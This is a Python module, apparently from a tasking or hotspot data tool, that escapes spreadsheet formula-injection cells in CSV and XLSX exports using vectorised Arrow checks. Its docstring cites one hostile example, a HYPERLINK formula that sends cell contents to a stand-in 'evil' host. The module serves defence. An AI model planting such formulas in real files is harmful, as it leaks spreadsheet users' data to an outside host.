"""Cells that a spreadsheet would run as formulas are written as text (CSV/formula injection).

A hotspot name, id or team name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` typed
into the hotspot file would otherwise become a live formula in every tasking CSV and
XLSX opened by an officer. Following the OWASP "CSV Injection" guidance, a text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote in CSV (spreadsheets then show it as text), and XLSX cells are
stored as strings, never formulas (:func:`force_text_cells`).

Numbers stay numbers: numeric columns are never touched, and a text cell that is a
plain number (``-1.5``, ``+44``, ``-2e-3``) is left as it is, since a spreadsheet reads
it as that number and nothing else.

:func:`formula_safe_frame` finds the cells to escape column by column in Arrow compute
(RE2 regular expressions over the column's buffers), not cell by cell in Python: a
quarantine of millions of raw rows is escaped in seconds. Its result is the same as
applying :func:`escape_cell` to every cell (tests/test_formula_safe_vectorised.py checks
this on hostile cells); the few cells RE2 cannot decide as Python's ``re`` does
(non-ASCII text that starts with a formula prefix: Python's ``\\d`` also matches other
scripts' digits) are decided by :func:`is_formula_like` itself.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from guardian_rct._core.arrow_csv import datetime_csv_text, string_buffers

__all__ = ["FORMULA_PREFIXES", "is_formula_like", "escape_cell", "formula_like_mask", "formula_like_arrow",
           "text_array", "escape_arrow", "formula_safe_frame", "force_text_cells"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")
#: The prefix test on UTF-8 bytes, and the RE2 (Arrow) form of the number test: RE2's ``$``
#: is the end of the text, Python's also matches before a final newline, hence ``\n?``;
#: for ASCII text both agree.
_PREFIX_BYTES = np.zeros(256, dtype=bool)
_PREFIX_BYTES[[ord(c) for c in FORMULA_PREFIXES]] = True
_NUMBER_RE2 = r"^[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\n?$"


def is_formula_like(value: object) -> bool:
    """Whether ``value`` is text a spreadsheet could run as a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and not _NUMBER.match(value))


def escape_cell(value: object) -> object:
    """``value`` with a leading ``'`` if it is formula-like; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def text_array(series: pd.Series) -> pa.Array | None:
    """``series`` as an Arrow string array when every non-missing cell is a ``str``;
    ``None`` when some cell is another object (bytes, numbers: decided cell by cell)."""
    if pd.api.types.is_object_dtype(series.dtype):
        if pd.api.types.infer_dtype(series, skipna=True) not in ("string", "empty"):
            return None
    try:
        if pd.api.types.is_object_dtype(series.dtype):
            arr = pa.array(series.to_numpy(), type=pa.large_string(), from_pandas=True)
        else:
            arr = pa.array(series, from_pandas=True)
    except (pa.ArrowException, UnicodeError, TypeError, ValueError):  # e.g. lone surrogates
        return None
    if isinstance(arr, pa.ChunkedArray):
        arr = arr.combine_chunks()
    if pa.types.is_dictionary(arr.type):
        arr = arr.dictionary_decode()
    if not (pa.types.is_string(arr.type) or pa.types.is_large_string(arr.type)):
        return None
    return arr


def formula_like_mask(series: pd.Series) -> np.ndarray:
    """Which cells of a text column :func:`is_formula_like` holds true for (vectorised).

    Cells are first screened for a formula prefix in Arrow; of those, ASCII cells are
    plain numbers exactly when the RE2 number pattern matches them, and the rest (rare:
    non-ASCII text after ``=``, ``-``...) are given to :func:`is_formula_like`.
    """
    arr = text_array(series)
    if arr is None:
        return series.map(is_formula_like).to_numpy(dtype=bool)
    return formula_like_arrow(arr)


def _prefixed(arr: pa.Array) -> np.ndarray:
    """Which cells start with a formula prefix, from the first byte of each cell in the
    Arrow buffers (every prefix is one ASCII byte, never the start of a longer UTF-8 code)."""
    ends, body = string_buffers(arr)
    starts = ends[:-1]
    nonempty = ends[1:] > starts
    if arr.null_count:
        nonempty &= arr.is_valid().to_numpy(zero_copy_only=False)
    out = np.zeros(len(arr), dtype=bool)
    idx = np.flatnonzero(nonempty)
    out[idx] = _PREFIX_BYTES[body[starts[idx]]]
    return out


def formula_like_arrow(arr: pa.Array) -> np.ndarray:
    """:func:`formula_like_mask` of an Arrow string array (nulls are not formula-like)."""
    prefixed = _prefixed(arr)
    if not prefixed.any():
        return prefixed
    idx = np.flatnonzero(prefixed)
    cand = arr.take(pa.array(idx))
    number = pc.match_substring_regex(cand, _NUMBER_RE2).to_numpy(zero_copy_only=False)
    ascii_ = pc.string_is_ascii(cand).to_numpy(zero_copy_only=False)
    mask = np.zeros(len(arr), dtype=bool)
    mask[idx] = ascii_ & ~number
    other = np.flatnonzero(~ascii_)
    if len(other):
        mask[idx[other]] = [is_formula_like(v) for v in cand.take(pa.array(other)).to_pylist()]
    return mask


def escape_arrow(arr: pa.Array) -> pa.Array:
    """An Arrow string array with :func:`escape_cell` applied to every cell."""
    mask = formula_like_arrow(arr)
    if not mask.any():
        return arr
    quoted = pc.binary_join_element_wise(pa.scalar("'", arr.type), arr, pa.scalar("", arr.type))
    return pc.if_else(pa.array(mask), quoted, arr)


def formula_safe_frame(frame: pd.DataFrame, *, datetimes_as_text: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped with :func:`escape_cell` (for CSV).

    Only object and string columns are looked at; numeric, boolean and datetime columns
    are returned as they are, unless ``datetimes_as_text``: then datetime columns come
    back as the very text ``to_csv`` would write for them, formatted in Arrow
    (:func:`~guardian_rct._core.arrow_csv.datetime_csv_text`; much faster for large
    tables; use it only when the frame goes straight to ``to_csv`` without a
    ``date_format``). A column with an escaped cell comes back as ``object`` dtype (its
    other cells unchanged); see :func:`formula_like_mask` for how the cells are found.
    """
    out = frame.copy()
    for i, column in enumerate(out.columns):
        series = out.iloc[:, i]
        if datetimes_as_text and pd.api.types.is_datetime64_any_dtype(series.dtype):
            text = datetime_csv_text(series)
            if text is not None:
                out.isetitem(i, text)
        elif pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            mask = formula_like_mask(series)
            if mask.any():
                values = series.astype(object).to_numpy(copy=True)
                values[mask] = ["'" + str(v) for v in values[mask]]
                out.isetitem(i, pd.Series(values, index=series.index, dtype=object, name=column))
    return out


def force_text_cells(worksheet) -> int:  # noqa: ANN001 - an openpyxl Worksheet
    """Turn every formula cell of an openpyxl ``worksheet`` back into a text cell.

    openpyxl stores any string that starts with ``=`` as a formula (data type ``"f"``);
    writing our data it never means one. Text cells that start with another formula
    prefix get ``quotePrefix`` so that Excel keeps them as text when a user edits them.

    Returns
    -------
    int
        Number of cells changed.
    """
    changed = 0
    for row in worksheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" or is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed
